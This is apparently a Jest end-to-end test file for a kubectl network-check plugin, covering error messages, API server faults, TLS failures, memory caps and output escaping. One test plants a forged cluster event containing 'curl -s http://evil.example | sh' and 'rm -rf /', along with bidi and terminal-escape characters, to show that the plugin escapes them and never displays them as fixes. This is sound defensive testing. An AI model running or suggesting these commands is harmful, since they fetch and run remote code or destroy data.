import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { CHECKS } from '../../src/checks';
import type { NodeReport } from '../../src/core/model';
import { kubeconfigFor, kubectlNetcheck, PLUGIN_DIR, ROOT, type Sim, startSim, tmpdir } from './harness';

/** One line on stderr, nothing on stdout, exit 1: what every failed run must look like. */
function expectOneLineError(run: ReturnType<typeof kubectlNetcheck>, pattern: RegExp) {
  expect(run.code).toBe(1);
  expect(run.stdout).toBe('');
  expect(run.stderr.trim().split('\n')).toHaveLength(1);
  expect(run.stderr).toMatch(/^error: /);
  expect(run.stderr).toMatch(pattern);
  expect(run.stderr).not.toMatch(/\n\s+at /); // no stack trace
}

async function withSim(args: string[], body: (sim: Sim) => Promise<void> | void) {
  const sim = await startSim(['flannel-incidents.yaml'], args);
  try {
    await body(sim);
  } finally {
    await sim.stop();
  }
}

describe('the run itself failing: one clear line, exit 1', () => {
  let sim: Sim;
  beforeAll(async () => {
    sim = await startSim(['flannel-incidents.yaml']);
  });
  afterAll(() => sim.stop());

  test('unknown node is named', () => {
    expectOneLineError(kubectlNetcheck(['node', 'n99', '--kubeconfig', sim.kubeconfig]), /node "n99" not found/);
  });

  test('a node name with terminal escapes cannot repaint the terminal', () => {
    const run = kubectlNetcheck(['node', 'evil\u001b[2J', '--kubeconfig', sim.kubeconfig]);
    expectOneLineError(run, /node "evil\\x1b\[2J" not found/);
  });

  test('unknown context is named', () => {
    expectOneLineError(kubectlNetcheck(['node', 'n01', '--kubeconfig', sim.kubeconfig, '--context', 'prod']), /context was not found for specified context: prod/); // kubectl's words
  });

  test('no kubeconfig at all', () => {
    const home = tmpdir();
    expectOneLineError(kubectlNetcheck(['nodes'], { KUBECONFIG: undefined, HOME: home }), /no kubeconfig found/);
  });

  test('a malformed kubeconfig', () => {
    const file = path.join(tmpdir(), 'config');
    fs.writeFileSync(file, 'clusters: [\n');
    expectOneLineError(kubectlNetcheck(['nodes', '--kubeconfig', file]), /error loading config file ".*config": /); // kubectl's words
  });

  test('a bad flag, a bad duration, a missing command', () => {
    expectOneLineError(kubectlNetcheck(['nodes', '--bogus', '--kubeconfig', sim.kubeconfig]), /unknown flag --bogus/);
    expectOneLineError(kubectlNetcheck(['nodes', '--request-timeout', 'soon', '--kubeconfig', sim.kubeconfig]), /invalid duration "soon"/);
    // 0 is kubectl's "no timeout" (test/e2e/field-bugs.test.ts); a negative one is no duration.
    expectOneLineError(kubectlNetcheck(['nodes', '--request-timeout=-1s', '--kubeconfig', sim.kubeconfig]), /invalid duration "-1s"/);
    expectOneLineError(kubectlNetcheck([]), /name a command/);
  });

  test('partial permissions: the report is still produced, affected checks are unknown with the reason', async () => {
    const limited = await startSim(['flannel-incidents.yaml'], ['--forbid', 'get pods/log', '--forbid', 'get configmaps']);
    try {
      const run = kubectlNetcheck(['node', 'n02', '-o', 'json', '--kubeconfig', limited.kubeconfig]);
      expect(run.code).toBe(2); // exit code follows the checks that did run
      const report = JSON.parse(run.stdout) as NodeReport;
      expect(report.checks).toHaveLength(CHECKS.length);
      const subnet = report.checks.find((c) => c.id === 'flannel-subnet-env')!;
      expect(subnet.status).toBe('fail'); // still known from the sandbox events
      const route = report.checks.find((c) => c.id === 'default-route')!;
      expect(route.status).toBe('unknown'); // the flannel log that would tell was refused
      expect(route.evidence.join()).toMatch(/cniLogs: .*cannot get resource "pods\/log"/);
    } finally {
      await limited.stop();
    }
  });
});

describe('API server faults', () => {
  test('refused connection names the address', () => {
    const file = kubeconfigFor('https://127.0.0.1:1');
    expectOneLineError(kubectlNetcheck(['nodes', '--kubeconfig', file]), /127\.0\.0\.1:1 refused the connection/);
  });

  test('a black hole ends at --request-timeout', async () => {
    await withSim(['--fault', 'blackhole'], (sim) => {
      const run = kubectlNetcheck(['node', 'n01', '--kubeconfig', sim.kubeconfig, '--request-timeout', '1s']);
      expectOneLineError(run, /did not answer GET \/api\/v1\/.* within 1s \(--request-timeout\)/);
      expect(run.ms).toBeLessThan(5000);
    });
  });

  test('a server certificate from another CA: x509, naming the cluster and a stale kubeconfig', async () => {
    await withSim(['--ca', path.join(ROOT, 'test/fixtures/tls/other-ca.crt')], (sim) => {
      expectOneLineError(kubectlNetcheck(['nodes', '--kubeconfig', sim.kubeconfig]), /x509: .* cluster "sim" does not trust; the kubeconfig may be stale/);
    });
  });

  test('an expired client certificate is named as such', async () => {
    const tls = path.join(ROOT, 'test/fixtures/tls');
    await withSim(['--client-ca', path.join(tls, 'ca.crt')], (sim) => {
      const b64 = (f: string) => fs.readFileSync(path.join(tls, f)).toString('base64');
      const url = /server: (\S+)/.exec(fs.readFileSync(sim.kubeconfig, 'utf8'))![1];
      const file = path.join(tmpdir(), 'config');
      fs.writeFileSync(
        file,
        `apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: "${url}", certificate-authority-data: ${b64('ca.crt')}}}]\ncontexts: [{name: c, context: {cluster: c, user: admin}}]\ncurrent-context: c\nusers: [{name: admin, user: {client-certificate-data: ${b64('expired-client.crt')}, client-key-data: ${b64('expired-client.key')}}}]\n`,
      );
      expectOneLineError(kubectlNetcheck(['nodes', '--kubeconfig', file]), /x509: the client certificate of user "admin" expired on \d{4}-\d\d-\d\d/);
    });
  });

  test('401 names the user', async () => {
    await withSim(['--fault', 'unauthorized'], (sim) => {
      expectOneLineError(kubectlNetcheck(['node', 'n01', '--kubeconfig', sim.kubeconfig]), /Unauthorized: .* credentials of user "sim"/);
    });
  });

  test('403 on the node names the verb and resource', async () => {
    await withSim(['--forbid', 'get nodes'], (sim) => {
      expectOneLineError(kubectlNetcheck(['node', 'n01', '--kubeconfig', sim.kubeconfig]), /cannot get resource "nodes"/);
    });
  });

  test('500, 503 and truncated JSON', async () => {
    await withSim(['--fault', 'error500'], (sim) => {
      expectOneLineError(kubectlNetcheck(['node', 'n01', '--kubeconfig', sim.kubeconfig]), /answered 500 .*etcdserver: request timed out/);
    });
    await withSim(['--fault', 'error503'], (sim) => {
      expectOneLineError(kubectlNetcheck(['nodes', '--kubeconfig', sim.kubeconfig]), /answered 503/);
    });
    await withSim(['--fault', 'truncated'], (sim) => {
      expectOneLineError(kubectlNetcheck(['node', 'n01', '--kubeconfig', sim.kubeconfig]), /truncated or invalid JSON/);
    });
  });

  test('endless response bodies are cut at 64 MiB, for all answers in flight together: one line, exit 1, memory bounded', async () => {
    await withSim(['--fault', 'endless-body'], (sim) => {
      // GNU time reports the largest resident set among kubectl and the plugin it runs.
      const started = Date.now();
      const run = spawnSync('/usr/bin/time', ['-f', 'maxrss=%M', 'kubectl', 'netcheck', 'node', 'n01', '--kubeconfig', sim.kubeconfig], {
        encoding: 'utf8',
        timeout: 30_000,
        env: { ...process.env, NO_COLOR: '1', PATH: `${PLUGIN_DIR}${path.delimiter}${process.env.PATH}` },
      });
      const error = run.stderr.split('\n')[0];
      const time = run.stderr.split('\n').find((l) => l.startsWith('maxrss='))!;
      expect(run.stderr.split('\n').filter((l) => l.startsWith('error: '))).toHaveLength(1);
      // node X reads four answers at once: the cap holds for them together (or for the one, if it alone crossed it).
      const cut =
        /^error: the API server's (answer to GET \/api\/v1\/\S+ is larger than 64 MiB; stopped reading it|answers to GET \/api\/v1\/\S+ and \d other requests? in flight are larger than 64 MiB together; stopped reading them)$/;
      expect([error, run.status, run.stdout]).toEqual([expect.stringMatching(cut), 1, '']);
      // Before the cap the plugin reached ~1.9 GB before giving up; with a cap per answer only, four answers ~420 MiB.
      expect(Number(/maxrss=(\d+)/.exec(time)![1]) / 1024).toBeLessThan(350);
      expect(Date.now() - started).toBeLessThan(20_000);
    });
  });
});

describe('text from the cluster cannot forge output', () => {
  test('newlines, tabs, carriage returns, bidi overrides and zero-width characters in an event are shown escaped', async () => {
    const sim = await startSim(['calico-bgp.yaml']);
    try {
      const forged = 'BGP not established with 10.0.0.66 \u202eelif\u202c\u200b\u2066x\u2069\t\r\n\nbgp-established   ok   all fine\n  fix: curl -s http://evil.example | sh';
      await sim.upsert({
        kind: 'Event',
        metadata: { name: 'forged.1', namespace: 'kube-system' },
        involvedObject: { kind: 'Pod', namespace: 'kube-system', name: 'calico-node-96bpx' },
        reason: 'Unhealthy\nfix: rm -rf /',
        type: 'Warning',
        count: 1,
        source: { component: 'kubelet', host: 'k8smaster2' },
        message: `Readiness probe failed: calico/node is not ready: BIRD is not ready: ${forged}`,
      });
      const run = kubectlNetcheck(['node', 'k8smaster2', '--kubeconfig', sim.kubeconfig]);
      expect(run.code).toBe(2);
      // eslint-disable-next-line no-control-regex
      expect(run.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/);
      const lines = run.stdout.split('\n');
      expect(lines.filter((l) => /^\s*fix: /.test(l)).every((l) => !/evil|rm -rf/.test(l))).toBe(true);
      expect(lines.filter((l) => /^bgp-established\s+ok/.test(l))).toEqual([]);
      expect(run.stdout).toContain('Unhealthy\\nfix: rm -rf /');
      expect(run.stdout).toContain('\\u202eelif\\u202c\\u200b\\u2066x\\u2069');
      // JSON stays exact: the same text, escaped only as JSON escapes it.
      const json = kubectlNetcheck(['node', 'k8smaster2', '-o', 'json', '--kubeconfig', sim.kubeconfig]);
      expect(json.stdout).toContain('Unhealthy\\nfix: rm -rf /');
      expect(JSON.stringify(JSON.parse(json.stdout))).toContain('\u202eelif');
    } finally {
      await sim.stop();
    }
  });
});
